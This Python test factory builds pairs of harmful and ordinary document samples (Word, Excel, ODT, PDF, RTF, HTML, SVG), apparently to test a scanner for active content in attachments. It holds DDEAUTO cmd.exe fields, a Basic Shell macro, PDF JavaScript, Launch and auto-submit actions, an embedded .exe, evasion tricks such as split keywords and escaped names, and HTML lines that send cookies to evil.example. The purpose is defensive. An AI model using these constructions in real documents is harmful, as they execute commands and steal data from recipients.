"""Documents with active content, and their ordinary twins, built in memory (issue 15).

Word documents start from a real python-docx letter and have one part changed or added, so
the only difference between the harmful and the ordinary version is the active content.
PDFs are written object by object with a correct cross-reference table.
"""

from __future__ import annotations

import io
import zipfile

from tests.factories.office_documents import docx

LETTER = [
    "Dear Sir or Madam,",
    "I am writing about the child support payments for my two children. My former partner has "
    "changed jobs and I have attached his new employer's details as you asked on the phone.",
    "Yours faithfully,",
    "Mary",
]
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def letter_docx() -> bytes:
    return docx(LETTER)


def _rewrite(document: bytes, change: dict[str, bytes], edit: dict[str, tuple[bytes, bytes]] | None = None) -> bytes:
    """The package with parts added or replaced (`change`) and text replaced inside parts (`edit`)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(document)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in change:
                continue
            data = src.read(info)
            if edit and info.filename in edit:
                old, new = edit[info.filename]
                assert old in data, f"{old!r} not in {info.filename}"
                data = data.replace(old, new, 1)
            dst.writestr(info.filename, data)
        for name, data in change.items():
            dst.writestr(name, data)
    return out.getvalue()


def docx_with_dde_field(split_keyword: bool = False) -> bytes:
    """A letter whose body carries a DDEAUTO field split over runs, as Word writes it (and, with
    `split_keyword`, with the keyword itself cut in two, as evasive senders do)."""
    keyword = b'DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO' if split_keyword else b"DDEAUTO"
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText xml:space="preserve"> '
        + keyword
        + b" c:\\\\windows\\\\system32\\\\cmd.exe </w:instrText></w:r>"
        b'<w:r><w:instrText xml:space="preserve">"/k calc.exe"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _rewrite(letter_docx(), {}, {"word/document.xml": (b"<w:body>", b"<w:body>" + field)})


def docx_with_remote_template() -> bytes:
    """A letter whose settings fetch a template from a web server when it is opened."""
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL_NS}/attachedTemplate" '
        f'Target="https://templates.example.net/letterhead.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    return _rewrite(letter_docx(), {"word/_rels/settings.xml.rels": rels})


def docx_with_local_template() -> bytes:
    """A letter that records the template on the writer's own drive it was made from (ordinary)."""
    rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL_NS}/attachedTemplate" '
        f'Target="file:///C:\\Users\\mary\\Documents\\Custom Office Templates\\Letter.dotx" TargetMode="External"/>'
        f"</Relationships>"
    ).encode()
    return _rewrite(letter_docx(), {"word/_rels/settings.xml.rels": rels})


def docx_with_hyperlink() -> bytes:
    """A letter with a link to a web page (a reader has to click it: ordinary)."""
    rels_name = "word/_rels/document.xml.rels"
    with zipfile.ZipFile(io.BytesIO(letter_docx())) as zf:
        rels = zf.read(rels_name)
    link = (
        f'<Relationship Id="rId99" Type="{REL_NS}/hyperlink" '
        f'Target="https://www.example.gov.au/" TargetMode="External"/>'
    )
    return _rewrite(letter_docx(), {rels_name: rels.replace(b"</Relationships>", link.encode() + b"</Relationships>")})


def docx_with_embedded_package(ole: bytes) -> bytes:
    """A letter with an OLE object (a packaged file) embedded in it."""
    return _rewrite(letter_docx(), {"word/embeddings/oleObject1.bin": ole})


def docx_with_part(name: str, content: bytes) -> bytes:
    """A letter with one more part in its package (a picture, or something that is not one)."""
    return _rewrite(letter_docx(), {name: content})


def docx_with_chart(workbook: bytes) -> bytes:
    """A letter with a chart whose data lives in an embedded workbook, as Word saves charts."""
    chart_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{REL_NS}/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>'
        f"</Relationships>"
    ).encode()
    chart = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>'
    )
    return _rewrite(
        letter_docx(),
        {
            "word/charts/chart1.xml": chart,
            "word/charts/_rels/chart1.xml.rels": chart_rels,
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook,
        },
    )


def xlsx_with_dde_link(plain_xlsx: bytes) -> bytes:
    """A workbook with an external DDE link to another program."""
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
        b"</ddeLink></externalLink>"
    )
    return _rewrite(plain_xlsx, {"xl/externalLinks/externalLink1.xml": link})


def odt_with_basic_macro(plain_odt: bytes) -> bytes:
    module = (
        b'<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" '
        b'script:name="Module1" script:language="StarBasic">Sub Main\n Shell("calc")\nEnd Sub</script:module>'
    )
    return _rewrite(plain_odt, {"Basic/Standard/Module1.xml": module})


# PDFs ----------------------------------------------------------------------------------------


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of the given object bodies (object n is objects[n-1]) with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % at for at in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def _page_pdf(catalog_extra: bytes = b"", page_extra: bytes = b"", more: list[bytes] | None = None) -> bytes:
    text = b"BT /F1 12 Tf 72 720 Td (Payment summary for July) Tj ET"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b">>",
            b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *(more or []),
        ]
    )


def pdf_letter() -> bytes:
    return _page_pdf()


def pdf_opening_at_page_one() -> bytes:
    """An OpenAction that only shows the first page, fitted: what most PDFs do (ordinary)."""
    return _page_pdf(b"/OpenAction [3 0 R /Fit] ")


def pdf_form_with_fields() -> bytes:
    """A fillable form: two text fields, no script."""
    return _page_pdf(
        b"/AcroForm << /Fields [6 0 R 7 0 R] >> ",
        b"/Annots [6 0 R 7 0 R] ",
        [
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (payer_name) /V () /Rect [72 600 300 620] /P 3 0 R >>",
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (reference) /V () /Rect [72 560 300 580] /P 3 0 R >>",
        ],
    )


def pdf_with_javascript() -> bytes:
    return _page_pdf(b"/OpenAction 6 0 R ", more=[b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hi'\\)) >>"])


def pdf_with_hidden_javascript_name() -> bytes:
    """The same, with the names written in #xx escapes, as evasive PDFs do."""
    return _page_pdf(b"/OpenAction 6 0 R ", more=[b"<< /Type /Action /S /J#61vaScript /J#53 (this.print\\(\\)) >>"])


def pdf_with_launch() -> bytes:
    return _page_pdf(
        page_extra=b"/AA << /O 6 0 R >> ",
        more=[b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"],
    )


def pdf_submitting_on_open() -> bytes:
    """An OpenAction that sends the form's contents to a server when the file is opened."""
    return _page_pdf(b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://collect.example.net/) >> >> ")


def pdf_with_embedded_file() -> bytes:
    return _page_pdf(
        b"/Names << /EmbeddedFiles << /Names [(payslip.exe) 6 0 R] >> >> ",
        more=[
            b"<< /Type /Filespec /F (payslip.exe) /EF << /F 7 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
        ],
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """JavaScript inside a compressed object stream, invisible to a scan of the raw bytes."""
    import zlib

    inner = b"<< /Type /Action /S /JavaScript /JS (app.launchURL\\('x'\\)) >>"
    header = b"6 0 "
    stream = zlib.compress(header + inner)
    return _page_pdf(
        b"/OpenAction 6 0 R ",
        more=[
            b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(stream))
            + stream
            + b"\nendstream"
        ],
    )


# HTML and SVG --------------------------------------------------------------------------------

HTML_BODY_WITH_STYLES = (
    b'<html><head><style>p { font-family: Arial; }</style></head><body style="margin:0">'
    b'<p style="color:#333333;font-size:14px">Hello, please find my payslips attached.</p>'
    b'<p><a href="https://www.example.gov.au/contact" style="color:blue">Contact us</a></p>'
    b'<img src="cid:logo" alt="logo" width="80" height="20"></body></html>'
)
HTML_WITH_SCRIPT = (
    b"<html><body><p>Invoice</p><script>location='https://evil.example/'+document.cookie</script></body></html>"
)
HTML_WITH_HANDLER = b'<html><body><img src="x" ONERROR="fetch(\'https://evil.example\')"><p>Statement</p></body></html>'
HTML_WITH_SCRIPT_URL = b'<html><body><a href="jav&#x09;ascript:alert(1)">Open your statement</a></body></html>'
SVG_WITH_ONLOAD = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="10" height="10"><rect/></svg>'
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>document.location='https://evil.example'</script></svg>"
)
SVG_LOGO = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="40" height="10">'
    b'<rect width="40" height="10" style="fill:#004b87"/><text x="2" y="8">Agency</text></svg>'
)


def rtf_letter(body: bytes = rb"\pard Dear officer, my payment details are below.\par") -> bytes:
    return rb"{\rtf1\ansi\deff0{\fonttbl{\f0 Times New Roman;}}" + body + b"}"


def rtf_with_embedded_object() -> bytes:
    """An RTF letter carrying an embedded OLE package (the \\object ... \\objdata form Word writes)."""
    ole = b"0105000002000000080000005061636b616765000000000000000000"
    embedded = rb"{\object\objemb{\*\objclass Package}\objw1\objh1{\*\objdata " + ole + rb"}}"
    return rtf_letter(rb"\pard See the attached form.\par" + embedded)


def rtf_with_dde_field() -> bytes:
    field = rb'{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"}{\fldrslt x}}'
    return rtf_letter(rb"\pard" + field + rb"\par")
